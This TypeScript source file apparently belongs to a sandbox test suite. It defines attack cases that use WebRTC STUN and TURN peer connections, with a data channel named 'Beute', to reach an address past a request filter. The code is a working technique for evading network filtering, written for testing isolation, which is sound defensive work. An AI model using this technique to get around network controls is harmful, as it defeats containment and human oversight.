import type { Attack, Foothold } from '../attack.ts';

/* WebRTC goes past the request filter: ICE packets and TURN connections are no requests. */

const calling = (name: string, from: Foothold, server: 'stun' | 'turn'): Attack => ({
  name,
  from,
  walls: ['peer-connections'],
  heardAs: server === 'stun' ? '(datagram)' : '(connection)',
  act: server === 'stun' ? viaStun : viaTurn,
});

const viaStun: Attack['act'] = async (address) => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(address).host}` }] });
  peer.createDataChannel('Beute');
  const gathered = new Promise((resolve) => {
    setTimeout(resolve, 2_000); // a server that does not answer is asked again and again: the first time is enough
    peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve(undefined);
  });
  await peer.setLocalDescription();
  await gathered;
  peer.close();
};

const viaTurn: Attack['act'] = async (address) => {
  const urls = `turn:${new URL(address).host}?transport=tcp`;
  const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'Beute', credential: 'Beute' }] });
  peer.createDataChannel('Beute');
  const gathered = new Promise((resolve) => {
    setTimeout(resolve, 2_000); // a server that does not answer is asked again and again: the first time is enough
    peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve(undefined);
  });
  await peer.setLocalDescription();
  await gathered;
  peer.close();
};

export const calls: readonly Attack[] = [
  calling('stun', 'workspace', 'stun'),
  calling('turn', 'workspace', 'turn'),
  calling('engine-page-stun', 'engine-page', 'stun'),
];
